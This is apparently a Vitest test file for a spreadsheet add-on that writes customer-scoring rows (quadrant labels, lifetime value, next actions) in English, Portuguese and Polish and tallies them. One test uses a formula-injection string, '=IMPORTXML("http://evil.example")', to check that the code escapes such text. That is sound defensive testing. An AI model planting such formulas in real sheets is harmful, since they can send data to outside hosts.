import { describe, expect, it } from 'vitest';
import { serialOf } from '../../../addon/src/sheet/serial.ts';
import { tallyCells } from '../../../addon/src/sheet/tally.ts';
import { writtenRow } from '../../../addon/src/sheet/written-row.ts';
import { scoreOf } from '../scores.ts';

const NOW = '2026-11-21T06:10';
const NOTHING_BEFORE = { quadrant: null, was: null };
const IN_ENGLISH = { reader: 'en', now: NOW, currency: 'GBP' } as const;

function rowOf(
  changes: Parameters<typeof scoreOf>[1] = {},
  before: Parameters<typeof writtenRow>[2] = NOTHING_BEFORE,
) {
  return writtenRow(2, scoreOf('7', changes), before, IN_ENGLISH);
}

describe('the row of a customer', () => {
  it('holds words, real numbers and real dates', () => {
    const { primaryAction } = scoreOf('7');
    const alternatives = [{ ...primaryAction, label: 'Offer the yearly contract', netEffect: 1_200 }];

    expect(writtenRow(27, scoreOf('7', { alternatives }), NOTHING_BEFORE, IN_ENGLISH)).toEqual({
      row: 27,
      values: {
        quadrant: '● True Friend',
        confidence: 0.81,
        lifecycle: 'Active',
        clv: 105_600,
        contribution: 28_900,
        stillActive: 0.88,
        nextOrder: serialOf('2026-12-12'),
        touch: 'Personal',
        action: 'Call about the overdue order',
        moneyAtStake: 3_150,
        due: serialOf('2026-11-24'),
        why: 'Usually buys every 32 days; it is 51 days now.',
        alternative: 'Offer the yearly contract (£1,200)',
        was: '',
        updated: serialOf(NOW),
      },
      note: '81% True Friend, 19% Butterfly',
    });
  });

  it.each([
    ['pt-BR', 'Afastando-se', 'Leve', '▲ Borboleta'],
    ['pl', 'Oddala się', 'Okresowa', '▲ Motyl'],
  ] as const)('speaks %s', (reader, lifecycle, touch, quadrant) => {
    const score = scoreOf('7', { quadrant: 'BUTTERFLY', lifecycle: 'SLIPPING', touchTier: 'LOW' });

    const { values } = writtenRow(2, score, NOTHING_BEFORE, { reader, now: NOW, currency: 'BRL' });

    expect(values).toMatchObject({ lifecycle, touch, quadrant });
  });

  it('says so when a customer has no orders, and clears what stood there', () => {
    const { values, note } = writtenRow(2, undefined, NOTHING_BEFORE, { ...IN_ENGLISH, reader: 'pl' });
    const { quadrant, updated, ...others } = values;
    expect([quadrant, updated]).toEqual(['Jeszcze bez zamówień', serialOf(NOW)]);
    expect(new Set(Object.values(others))).toEqual(new Set(['']));
    expect(note).toBe('');
  });

  it.each([
    ['PROSPECT', 'No orders yet'],
    ['DATA_ERROR', 'Check the data'],
  ] as const)('calls a %s without a quadrant "%s" and keeps its action', (lifecycle, words) => {
    const { values } = rowOf({ quadrant: null, clv: null, pAlive: null, lifecycle });
    expect(values).toMatchObject({ quadrant: words, clv: '', action: 'Call about the overdue order' });
  });

  it.each([
    ['a first label', null, null, ''],
    ['another label than before', 'BUTTERFLY', null, '▲ Butterfly'],
    ['the same label again, and keeps what it was before that', 'TRUE_FRIEND', 'STRANGER', '◆ Stranger'],
    ['a change after another change', 'BARNACLE', 'STRANGER', '■ Barnacle'],
  ] as const)('tells in Was what came before: %s', (_what, quadrant, was, expected) => {
    expect(rowOf({}, { quadrant, was }).values.was).toBe(expected);
  });

  it('notes on the quadrant how likely each is, that it is early, what would change it, and what else to know', () => {
    const warnings = [{ code: 'margin_assumed', text: 'Margin is assumed (30%).' }];
    const signs = [{ code: 'single_contact', text: 'Only one contact.' }];
    const nearestChange = {
      kind: 'order_before',
      quadrant: 'BUTTERFLY',
      date: '2027-01-12',
      orders: null,
      amount: null,
      text: 'Without an order before 12 Jan 2027 it becomes a Butterfly.',
    } as const;

    expect(rowOf({ provisional: true, warnings, signs, nearestChange }).note.split('\n')).toEqual([
      '81% True Friend, 19% Butterfly',
      'An early sign: too little history to call it lasting.',
      'Without an order before 12 Jan 2027 it becomes a Butterfly.',
      'Only one contact.',
      'Margin is assumed (30%).',
    ]);
  });

  it('does not round up to a certainty that nobody has', () => {
    const quadrantProbabilities = { TRUE_FRIEND: 0.997, BUTTERFLY: 0.003, BARNACLE: 0, STRANGER: 0 };
    expect(rowOf({ quadrantProbabilities }).note).toBe('>99% True Friend');
  });

  it('does not say twice that it is an early sign', () => {
    const warnings = [{ code: 'no_repeat_evidence', text: 'Provisional: too few orders.' }];
    expect(rowOf({ provisional: true, warnings }).note).toBe(
      '81% True Friend, 19% Butterfly\nProvisional: too few orders.',
    );
  });

  it('keeps a reason that quotes a formula from becoming one', () => {
    const { primaryAction } = scoreOf('7');
    const reason = '=IMPORTXML("http://evil.example") has not ordered for 51 days.';
    const { values } = rowOf({ primaryAction: { ...primaryAction, label: '+1 call', reason } });
    expect(values).toMatchObject({ why: `'${reason}`, action: "'+1 call" });
  });
});

describe('the tally of a sheet', () => {
  it('counts and sums by the label, in whatever language and after a header', () => {
    const quadrants = ['Quadrant', '● True Friend', '● Amigo verdadeiro', null, '◆ Obcy', 'No orders yet'];
    const clv = ['CLV', 100, 50.5, 7, 'n/a', null];
    expect(tallyCells(quadrants, clv)).toEqual({
      TRUE_FRIEND: { customers: 2, clv: 150.5 },
      BUTTERFLY: { customers: 0, clv: 0 },
      BARNACLE: { customers: 0, clv: 0 },
      STRANGER: { customers: 1, clv: 0 },
    });
  });

  it('is nothing where no customer has a quadrant', () => {
    expect(tallyCells(['Quadrant', 'No orders yet'], ['CLV', null])).toBeNull();
  });
});
